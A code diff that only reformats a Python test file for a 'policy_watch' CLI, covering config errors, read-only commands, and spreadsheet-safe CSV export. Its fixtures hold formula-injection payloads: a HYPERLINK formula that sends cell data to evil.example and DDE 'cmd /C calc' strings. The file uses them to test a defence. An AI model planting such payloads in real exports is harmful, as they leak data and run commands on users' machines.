@@ -17,12 +17,18 @@ from policy_watch.store import run_lock
 
 SECRET_ENV = "PW_CLI_HOOK_TOKEN"
 ROW = "<tr><td>{}</td><td>{}</td><td>{}</td></tr>"
-PAGE = ("<html><body><h1>Subprocessors</h1><table><thead><tr><th>Entity Name</th><th>Purpose</th>"
-        "<th>Country</th></tr></thead><tbody>{}</tbody></table></body></html>")  # fmt: skip
-SAFE = [ROW.format("Amazon Web Services, Inc.", "Hosting", "United States"),
-        ROW.format("Stripe, Inc.", "Payments", "United States")]  # fmt: skip
-FORMULAS = [ROW.format('=HYPERLINK("http://evil.example/?"&amp;A1,"Click")', "+cmd|' /C calc'!A0", "-2+3"),
-            ROW.format("@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed", "Ireland")]  # fmt: skip
+PAGE = (
+    "<html><body><h1>Subprocessors</h1><table><thead><tr><th>Entity Name</th><th>Purpose</th>"
+    "<th>Country</th></tr></thead><tbody>{}</tbody></table></body></html>"
+)
+SAFE = [
+    ROW.format("Amazon Web Services, Inc.", "Hosting", "United States"),
+    ROW.format("Stripe, Inc.", "Payments", "United States"),
+]
+FORMULAS = [
+    ROW.format('=HYPERLINK("http://evil.example/?"&amp;A1,"Click")', "+cmd|' /C calc'!A0", "-2+3"),
+    ROW.format("@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed", "Ireland"),
+]
 
 
 def _checked_twice(pages: PageServer, tmp_path: Path, hook: str, env: dict[str, str]) -> Path:
@@ -35,9 +41,18 @@ def _checked_twice(pages: PageServer, tmp_path: Path, hook: str, env: dict[str, 
     return config
 
 
-READ_ONLY = [("show", "Zendesk Connect"), ("history", "Zendesk Connect"), ("who", "Snowflake"), ("changes",),
-             ("changes", "--csv"), ("deadlines",), ("deadlines", "--json"), ("export",),
-             ("export", "--format", "json", "--what", "changes"), ("outbox", "--all")]  # fmt: skip
+READ_ONLY = [
+    ("show", "Zendesk Connect"),
+    ("history", "Zendesk Connect"),
+    ("who", "Snowflake"),
+    ("changes",),
+    ("changes", "--csv"),
+    ("deadlines",),
+    ("deadlines", "--json"),
+    ("export",),
+    ("export", "--format", "json", "--what", "changes"),
+    ("outbox", "--all"),
+]
 
 
 def test_read_only_commands_work_without_the_alert_secret(pages: PageServer, tmp_path: Path) -> None:
@@ -45,12 +60,22 @@ def test_read_only_commands_work_without_the_alert_secret(pages: PageServer, tmp
     config = _checked_twice(pages, tmp_path, hook, {SECRET_ENV: "s3cr3t-value"})
     env = {k: v for k, v in os.environ.items() if k != SECRET_ENV}
     for args in READ_ONLY:
-        r = subprocess.run([sys.executable, "-m", "policy_watch", "--config", str(config), *args],
-                           capture_output=True, text=True, env={**env, "COLUMNS": "200"}, timeout=60)  # fmt: skip
+        r = subprocess.run(
+            [sys.executable, "-m", "policy_watch", "--config", str(config), *args],
+            capture_output=True,
+            text=True,
+            env={**env, "COLUMNS": "200"},
+            timeout=60,
+        )
         assert r.returncode == 0, (args, r.stderr)
         assert "not set" not in r.stderr, (args, r.stderr)
-    r = subprocess.run([sys.executable, "-m", "policy_watch", "--config", str(config), "run"],
-                       capture_output=True, text=True, env=env, timeout=60)  # fmt: skip
+    r = subprocess.run(
+        [sys.executable, "-m", "policy_watch", "--config", str(config), "run"],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=60,
+    )
     assert r.returncode == 2 and f"${{{SECRET_ENV}}} is not set" in r.stderr and "notify[1].url" in r.stderr
 
 
@@ -64,9 +89,11 @@ def test_every_csv_output_is_inert_in_a_spreadsheet(pages: PageServer, tmp_path:
     assert cli(config, "run").returncode == 0
     pages.serve("/f", PAGE.format("".join(SAFE + FORMULAS)))
     assert cli(config, "run").returncode == 0
-    outputs = {"export": cli(config, "export", "--format", "csv"),
-               "export changes": cli(config, "export", "--format", "csv", "--what", "changes"),
-               "changes": cli(config, "changes", "--csv")}  # fmt: skip
+    outputs = {
+        "export": cli(config, "export", "--format", "csv"),
+        "export changes": cli(config, "export", "--format", "csv", "--what", "changes"),
+        "changes": cli(config, "changes", "--csv"),
+    }
     for label, r in outputs.items():
         assert r.returncode == 0, r.stderr
         rows = _csv_rows(r.stdout)
@@ -109,10 +136,20 @@ def test_config_is_accepted_after_the_command(pages: PageServer, tmp_path: Path)
 
 
 def test_a_missing_config_file_names_its_full_path(tmp_path: Path) -> None:
-    r = subprocess.run([sys.executable, "-m", "policy_watch", "--config", "nope.toml", "run"],
-                       capture_output=True, text=True, cwd=tmp_path, timeout=60)  # fmt: skip
+    r = subprocess.run(
+        [sys.executable, "-m", "policy_watch", "--config", "nope.toml", "run"],
+        capture_output=True,
+        text=True,
+        cwd=tmp_path,
+        timeout=60,
+    )
     assert r.returncode == 2
     assert f"{tmp_path.resolve() / 'nope.toml'}: config file not found" in r.stderr, r.stderr
-    default = subprocess.run([sys.executable, "-m", "policy_watch", "deadlines"],
-                             capture_output=True, text=True, cwd=tmp_path, timeout=60)  # fmt: skip
+    default = subprocess.run(
+        [sys.executable, "-m", "policy_watch", "deadlines"],
+        capture_output=True,
+        text=True,
+        cwd=tmp_path,
+        timeout=60,
+    )
     assert default.returncode == 2 and str(tmp_path.resolve() / "config.toml") in default.stderr
